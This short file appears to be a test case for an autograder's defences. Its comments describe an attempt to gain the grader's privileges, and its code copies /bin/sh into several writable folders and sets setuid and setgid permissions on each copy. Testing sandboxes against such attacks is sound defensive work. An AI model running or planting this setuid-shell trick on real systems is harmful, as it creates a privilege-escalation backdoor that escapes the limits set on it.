# attack: a program is made that would run with the grader's rights
# verdict: true score

# %% attack after counter
import os
import shutil

for folder in (".", "/tmp", "/var/tmp", "__COURSE__"):
    try:
        shutil.copyfile("/bin/sh", f"{folder}/__MARKER__-shell")
        os.chmod(f"{folder}/__MARKER__-shell", 0o6755)
    except OSError:
        continue
